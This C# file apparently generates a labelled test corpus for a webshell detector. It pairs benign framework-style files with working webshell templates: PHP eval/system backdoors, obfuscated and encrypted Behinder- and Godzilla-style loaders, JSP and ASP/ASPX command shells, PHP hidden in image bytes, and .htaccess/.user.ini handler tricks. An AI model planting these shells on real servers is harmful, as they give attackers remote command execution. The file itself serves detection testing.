using System.Text;

namespace GovGuard.Detection.Tests.Corpus.Files;

/// <summary>One generated web-root file and whether it is a webshell.</summary>
public sealed record LabelledFile(string Path, byte[] Content, bool IsWebshell, string Family);

/// <summary>
/// A labelled web root generated from a seed: webshells of each family and obfuscation (PHP, JSP,
/// ASP/ASPX, images with code, server-setting tricks), and benign framework-style files that use
/// eval, exec, include, callbacks, base64 and uploads legitimately. Samples are written here, by
/// technique; no other project's samples or rules are copied.
/// </summary>
public static class WebshellCorpus
{
    private static readonly string[] Params = ["x", "pass", "cmd", "a", "c", "z0", "ant", "code", "pwd", "k"];

    public static List<LabelledFile> Generate(int seed, int perFamily)
    {
        var rnd = new Random(seed);
        var files = new List<LabelledFile>();
        foreach (var (family, make, ext, bad) in Families())
        {
            for (var i = 0; i < perFamily; i++)
            {
                var p = Params[rnd.Next(Params.Length)];
                var v = "$" + Var(rnd);
                var body = make(rnd, p, v);
                var text = bad ? Pad(rnd, body, ext) : body;
                var bytes = ext is "gif" or "png" or "jpg" ? Image(rnd, ext, text) : Encoding.UTF8.GetBytes(text);
                var name = ext.StartsWith('.') ? $"site{i}/{ext}" : $"site{i}/{family}-{i}.{ext}";
                files.Add(new LabelledFile(name, bytes, bad, family));
            }
        }

        return files;
    }

    private static string Var(Random rnd) => new[] { "a", "b", "c", "cmd", "data", "s", "code", "f", "tmp", "payload" }[rnd.Next(10)] + rnd.Next(10);

    private static string Q(Random rnd, string p) => rnd.Next(3) switch { 0 => $"'{p}'", 1 => $"\"{p}\"", _ => p };

    private static string Src(Random rnd, string p) => new[] { "$_POST", "$_GET", "$_REQUEST", "$_COOKIE" }[rnd.Next(4)] + "[" + Q(rnd, p) + "]";

    /// <summary>Wraps a shell body in the ordinary code real shells hide among (comments, a harmless function).</summary>
    private static string Pad(Random rnd, string body, string ext)
    {
        if (ext is not ("php" or "phtml" or "php5" or "inc"))
        {
            return body;
        }

        var comment = rnd.Next(3) switch
        {
            0 => "/**\n * Cache helper\n * @package Site\n */\n",
            1 => "// 网站公共函数库\n",
            _ => string.Empty,
        };
        return body.Replace("<?php", "<?php\n" + comment, StringComparison.Ordinal);
    }

    private static byte[] Image(Random rnd, string ext, string code)
    {
        byte[] magic = ext switch
        {
            "gif" => "GIF89a"u8.ToArray(),
            "png" => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A],
            _ => [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, 0x4A, 0x46, 0x49, 0x46],
        };
        var noise = new byte[rnd.Next(200, 4000)];
        rnd.NextBytes(noise);
        for (var i = 0; i < noise.Length; i++)
        {
            // Keep the random picture data free of accidental tags.
            if (noise[i] is (byte)'<' or (byte)'?')
            {
                noise[i] = 0x20;
            }
        }

        var withCode = code.Length > 0 ? Encoding.UTF8.GetBytes(code) : [];
        return [.. magic, .. noise, .. withCode, .. noise.AsSpan(0, 64).ToArray()];
    }

    private static string B64(Random rnd, int len)
    {
        var bytes = new byte[len];
        rnd.NextBytes(bytes);
        return Convert.ToBase64String(bytes);
    }

    private static string Hex(string s) => string.Concat(s.Select(c => $"\\x{(int)c:x2}"));

    private delegate string Maker(Random rnd, string param, string variable);

    private static IEnumerable<(string Family, Maker Make, string Ext, bool Bad)> Families()
    {
        // ---- webshells ------------------------------------------------------------------------
        yield return ("php-oneliner", (r, p, v) => $"<?php {(r.Next(2) == 0 ? "@" : "")}eval({Src(r, p)});?>", "php", true);
        yield return ("php-assert", (r, p, v) => $"<?php\n@assert( {Src(r, p)} );\n", "php", true);
        yield return ("php-system", (r, p, v) => $"<?php\nif(isset({Src(r, p)})){{ echo '<pre>'; {new[] { "system", "passthru", "shell_exec" }[r.Next(3)]}({Src(r, p)}); }}\n", "php5", true);
        yield return ("php-taint", (r, p, v) => $"<?php\n{v} = {Src(r, p)};\n$o = trim({v});\n$out = {new[] { "shell_exec", "system", "eval", "popen" }[r.Next(4)]}($o);\necho $out;\n", "php", true);
        yield return ("php-varfunc", (r, p, v) => $"<?php\n$_GET['f']($_GET['{p}']);\n", "phtml", true);
        yield return ("php-callback", (r, p, v) => r.Next(2) == 0
            ? $"<?php\narray_map({Src(r, "f")}, array({Src(r, p)}));\n"
            : $"<?php\n{v} = {Src(r, "f")};\ncall_user_func({v}, {Src(r, p)});\n", "php", true);
        yield return ("php-concat-name", (r, p, v) => $"<?php\n{v} = 'as'.'se'.'rt';\n{v}({Src(r, p)});\n", "php", true);
        yield return ("php-rot13-name", (r, p, v) => $"<?php\n{v} = str_rot13('nffreg');\n{v}(base64_decode({Src(r, p)}));\n", "php", true);
        yield return ("php-hex-globals", (r, p, v) => $"<?php\n${{\"{Hex("GLOBALS")}\"}}['{Var(r)}'] = \"{Hex("assert")}\";\n${{\"{Hex("GLOBALS")}\"}}['x'](${{\"{Hex("_POST")}\"}}['{p}']);\n", "php", true);
        yield return ("php-chr-name", (r, p, v) => $"<?php\n{v} = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\n{v}({Src(r, p)});\n", "php", true);
        yield return ("php-packed", (r, p, v) => $"<?php\neval(gzinflate(base64_decode('{B64(r, 600)}')));\n", "php", true);
        yield return ("php-packed-rot", (r, p, v) => $"<?php\n{v}='{B64(r, 900)}';\neval(str_rot13(gzuncompress(base64_decode({v}))));\n", "inc", true);
        yield return ("php-create-function", (r, p, v) => $"<?php\n{v} = create_function('', {Src(r, p)});\n{v}();\n", "php", true);
        yield return ("php-preg-e", (r, p, v) => $"<?php\npreg_replace('/.*/e', {Src(r, p)}, '');\n", "php", true);
        yield return ("php-include-request", (r, p, v) => $"<?php\ninclude({Src(r, p)});\n", "php", true);
        yield return ("php-password-gate", (r, p, v) => $"<?php\nif (md5($_POST['pw']) === '{Convert.ToHexStringLower(Guid.NewGuid().ToByteArray())}') {{\n  {v} = $_POST['{p}'];\n  eval({v});\n}}\n", "php", true);
        yield return ("php-uploader", (r, p, v) => $"<?php\nif(isset($_FILES['f'])){{ move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'].'/'.$_FILES['f']['name']); echo 'ok'; }}\nfile_put_contents($_GET['n'], $_POST['c']);\n", "php", true);
        yield return ("php-behinder-style", (r, p, v) => $"<?php\n@error_reporting(0);\nsession_start();\n$key=\"{Convert.ToHexStringLower(Guid.NewGuid().ToByteArray())[..16]}\";\n$_SESSION['k']=$key;\n$post=file_get_contents(\"php://input\");\n$post=openssl_decrypt($post, \"AES128\", $key);\n$arr=explode('|',$post);\n$func=$arr[0];\n$params=$arr[1];\nclass C{{public function __invoke($p) {{eval($p.\"\");}}}}\n@call_user_func(new C(),$params);\n", "php", true);
        yield return ("php-godzilla-style", (r, p, v) => $"<?php\n@session_start();\n@set_time_limit(0);\nfunction encode($D,$K){{\n    for($i=0;$i<strlen($D);$i++) {{\n        $c = $K[$i+1&15];\n        $D[$i] = $D[$i]^$K[$i+1&15];\n    }}\n    return $D;\n}}\n$pass='{p}';\n$payloadName='payload';\n$key='3c6e0b8a9c15224a';\nif (isset($_POST[$pass])){{\n    $data=encode(base64_decode($_POST[$pass]),$key);\n    if (isset($_SESSION[$payloadName])){{\n        $payload=encode($_SESSION[$payloadName],$key);\n        eval($payload);\n    }}else{{ $_SESSION[$payloadName]=$data; }}\n}}\n", "php", true);
        yield return ("php-file-manager", (r, p, v) => "<?php\nerror_reporting(0);\n$d = isset($_GET['d']) ? $_GET['d'] : getcwd();\necho php_uname().' '.ini_get('disable_functions');\nforeach (scandir($d) as $f) { echo $f.'<br>'; }\nif (isset($_GET['del'])) { unlink($_GET['del']); }\nif (isset($_POST['chmod'])) { chmod($_POST['file'], octdec($_POST['chmod'])); }\n", "php", true);
        yield return ("jsp-exec", (r, p, v) => $"<%@ page import=\"java.io.*\" %>\n<%\nString c = request.getParameter(\"{p}\");\nif (c != null) {{\n  Process pr = Runtime.getRuntime().exec(c);\n  BufferedReader br = new BufferedReader(new InputStreamReader(pr.getInputStream()));\n  String l; while ((l = br.readLine()) != null) out.println(l);\n}}\n%>", "jsp", true);
        yield return ("jsp-exec-inline", (r, p, v) => $"<%Runtime.getRuntime().exec(request.getParameter(\"{p}\"));%>", "jspx", true);
        yield return ("jsp-processbuilder", (r, p, v) => $"<%\nProcessBuilder pb = new ProcessBuilder(\"/bin/sh\", \"-c\", request.getParameter(\"{p}\"));\nProcess pr = pb.start();\n%>", "jsp", true);
        yield return ("jsp-behinder-style", (r, p, v) => "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%>\n<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>\n<%if (request.getMethod().equals(\"POST\")){String k=\"e45e329feb5d925b\";session.putValue(\"u\",k);Cipher c=Cipher.getInstance(\"AES\");c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>", "jsp", true);
        yield return ("jsp-script-engine", (r, p, v) => $"<%@ page import=\"javax.script.*\" %>\n<%\nScriptEngineManager m = new ScriptEngineManager();\nScriptEngine e = m.getEngineByName(\"js\");\nout.print(e.eval(request.getParameter(\"{p}\")));\n%>", "jsp", true);
        yield return ("asp-eval", (r, p, v) => r.Next(2) == 0 ? $"<%eval request(\"{p}\")%>" : $"<%execute(request(\"{p}\"))%>", "asp", true);
        yield return ("aspx-jscript", (r, p, v) => $"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"{p}\"],\"unsafe\");%>", "aspx", true);
        yield return ("aspx-assembly-load", (r, p, v) => "<%@ Page Language=\"C#\" %><%@Import Namespace=\"System.Reflection\"%><%Session.Add(\"k\",\"e45e329feb5d925b\");byte[] k = Encoding.Default.GetBytes(Session[0] + \"\"),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance(\"U\").Equals(this);%>", "aspx", true);
        yield return ("aspx-process", (r, p, v) => $"<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {{\n  var psi = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + Request.Form[\"{p}\"]);\n  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n  Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());\n}}\n</script>", "aspx", true);
        yield return ("asp-wscript", (r, p, v) => $"<%\nSet s = Server.CreateObject(\"WScript.Shell\")\nSet o = s.Exec(\"cmd /c \" & Request.Form(\"{p}\"))\nResponse.Write o.StdOut.ReadAll()\n%>", "asa", true);
        yield return ("gif-with-php", (r, p, v) => $"<?php @eval({Src(r, p)}); ?>", "gif", true);
        yield return ("png-with-php", (r, p, v) => $"<?php system({Src(r, p)}); ?>", "png", true);
        yield return ("jpg-with-php", (r, p, v) => $"<?php\n{v}=$_POST['{p}'];\nassert({v});\n?>", "jpg", true);
        yield return ("user-ini-prepend", (r, p, v) => $"auto_prepend_file={new[] { "1.gif", "logo.png", "images/a.jpg", "/tmp/sess.txt" }[r.Next(4)]}\n", ".user.ini", true);
        yield return ("htaccess-addtype", (r, p, v) => r.Next(2) == 0
            ? "AddType application/x-httpd-php .jpg .png\n"
            : "<FilesMatch \"\\.(png|gif)$\">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n", ".htaccess", true);

        // ---- benign ---------------------------------------------------------------------------
        yield return ("wp-plugin", (r, p, v) => $"<?php\n/**\n * Plugin Name: Site Notices\n */\nif ( ! defined( 'ABSPATH' ) ) {{ exit; }}\nadd_action( 'admin_post_save_notice', function () {{\n    check_admin_referer( 'save_notice' );\n    $title = sanitize_text_field( wp_unslash( $_POST['{p}'] ?? '' ) );\n    update_option( 'site_notice', $title );\n    wp_safe_redirect( admin_url( 'options-general.php' ) );\n    exit;\n}} );\n", "php", false);
        yield return ("template-engine", (r, p, v) => "<?php\nnamespace think\\template\\driver;\n\nclass File\n{\n    public function read($cacheFile, $vars = [])\n    {\n        if (!empty($vars) && is_array($vars)) {\n            extract($vars, EXTR_OVERWRITE);\n        }\n        include $cacheFile;\n    }\n\n    public function render(string $content, array $vars): void\n    {\n        extract($vars, EXTR_OVERWRITE);\n        eval('?>' . $content);\n    }\n}\n", "php", false);
        yield return ("cli-process", (r, p, v) => "<?php\nnamespace App\\Console;\n\nfinal class Process\n{\n    public function run(array $command): int\n    {\n        $line = implode(' ', array_map('escapeshellarg', $command));\n        $proc = proc_open($line, [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes, $this->cwd);\n        $out = stream_get_contents($pipes[1]);\n        return proc_close($proc);\n    }\n\n    public function gitHead(): string\n    {\n        return trim((string) shell_exec('git rev-parse HEAD'));\n    }\n\n    public function deploy($cmd)\n    {\n        exec($cmd, $output, $code);\n        return $code;\n    }\n}\n", "php", false);
        yield return ("router", (r, p, v) => "<?php\nclass Router\n{\n    private array $routes = [];\n\n    public function dispatch(string $uri)\n    {\n        $path = parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH);\n        foreach ($this->routes as $pattern => $handler) {\n            if (preg_match($pattern, $path, $m)) {\n                [$class, $method] = $handler;\n                return call_user_func_array([new $class(), $method], array_slice($m, 1));\n            }\n        }\n        $callback = $this->fallback;\n        return $callback($path);\n    }\n}\n", "php", false);
        yield return ("autoloader", (r, p, v) => "<?php\nspl_autoload_register(function ($class) {\n    $file = __DIR__ . '/src/' . str_replace('\\\\', '/', $class) . '.php';\n    if (is_file($file)) {\n        require $file;\n    }\n});\n$config = require __DIR__ . '/config.php';\n", "php", false);
        yield return ("news-page", (r, p, v) => $"<?php\nrequire 'inc/db.php';\n$id = (int)($_GET['id'] ?? 0);\n$stmt = $pdo->prepare('SELECT title, body FROM news WHERE id = ?');\n$stmt->execute([$id]);\n$row = $stmt->fetch();\n$pdo->exec('UPDATE stats SET views = views + 1');\n?>\n<h1><?= htmlspecialchars($row['title']) ?></h1>\n<div class=\"content\"><?= $row['body'] ?></div>\n", "php", false);
        yield return ("safe-upload", (r, p, v) => "<?php\n$allowed = ['jpg', 'png', 'gif'];\n$ext = strtolower(pathinfo($_FILES['img']['name'], PATHINFO_EXTENSION));\nif (!in_array($ext, $allowed, true)) { http_response_code(400); exit('bad type'); }\n$name = bin2hex(random_bytes(8)) . '.' . $ext;\nmove_uploaded_file($_FILES['img']['tmp_name'], __DIR__ . '/uploads/' . $name);\necho json_encode(['url' => '/uploads/' . $name]);\n", "php", false);
        yield return ("jwt-helper", (r, p, v) => "<?php\nfunction jwt_payload(string $token): array {\n    [$h, $b, $s] = explode('.', $token);\n    return json_decode(base64_decode(strtr($b, '-_', '+/')), true);\n}\n$claims = jwt_payload($_COOKIE['session'] ?? '');\n", "php", false);
        yield return ("template-datauri", (r, p, v) => $"<?php $logo = 'data:image/png;base64,{B64(r, 900)}'; ?>\n<img src=\"<?= $logo ?>\" alt=\"logo\">\n", "php", false);
        yield return ("i18n-strings", (r, p, v) => "<?php\nreturn [\n    'welcome' => \"\\u6b22\\u8fce\",\n    'tab' => \"a\\tb\",\n    'eval_label' => '评估 evaluation',\n    'system_name' => '政务服务平台',\n];\n", "php", false);
        yield return ("gbk-page", (r, p, v) => "<?php\nheader('Content-Type: text/html; charset=gbk');\n$kw = isset($_GET['kw']) ? $_GET['kw'] : '';\necho '<p>搜索：' . htmlspecialchars($kw, ENT_QUOTES, 'GBK') . '</p>';\n", "php", false);
        yield return ("jsp-page", (r, p, v) => $"<%@ page contentType=\"text/html;charset=UTF-8\" import=\"java.sql.*\" %>\n<%\nString id = request.getParameter(\"id\");\nPreparedStatement ps = conn.prepareStatement(\"select title from news where id=?\");\nps.setString(1, id);\nResultSet rs = ps.executeQuery();\nwhile (rs.next()) {{ out.println(rs.getString(1)); }}\n%>", "jsp", false);
        yield return ("jsp-admin-tool", (r, p, v) => "<%@ page import=\"java.io.*\" %>\n<%\n// Shows the server uptime for the operations dashboard.\nProcess pr = Runtime.getRuntime().exec(new String[]{\"uptime\"});\nBufferedReader br = new BufferedReader(new InputStreamReader(pr.getInputStream()));\nout.println(br.readLine());\n%>", "jsp", false);
        yield return ("aspx-page", (r, p, v) => "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" CodeBehind=\"Default.aspx.cs\" Inherits=\"Portal._Default\" %>\n<script runat=\"server\">\nprotected void Page_Load(object sender, EventArgs e) {\n  var q = Request.QueryString[\"q\"];\n  lblQuery.Text = Server.HtmlEncode(q);\n}\n</script>\n<asp:Label ID=\"lblQuery\" runat=\"server\" />", "aspx", false);
        yield return ("asp-page", (r, p, v) => "<%\nDim id\nid = CInt(Request.QueryString(\"id\"))\nSet rs = conn.Execute(\"select title from news where id=\" & id)\nResponse.Write Server.HTMLEncode(rs(\"title\"))\n%>", "asp", false);
        yield return ("clean-gif", (r, p, v) => string.Empty, "gif", false);
        yield return ("clean-jpg", (r, p, v) => string.Empty, "jpg", false);
        yield return ("htaccess-rewrite", (r, p, v) => "RewriteEngine On\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule ^(.*)$ index.php?s=$1 [QSA,PT,L]\nAddType application/x-httpd-php .php\n<FilesMatch \"\\.(jpg|png|gif)$\">\n  Header set Cache-Control \"max-age=2592000\"\n</FilesMatch>\n", ".htaccess", false);
        yield return ("user-ini-waf", (r, p, v) => "auto_prepend_file = '/www/wwwroot/site/wordfence-waf.php'\nopen_basedir=/www/wwwroot/site/:/tmp/\n", ".user.ini", false);
    }
}
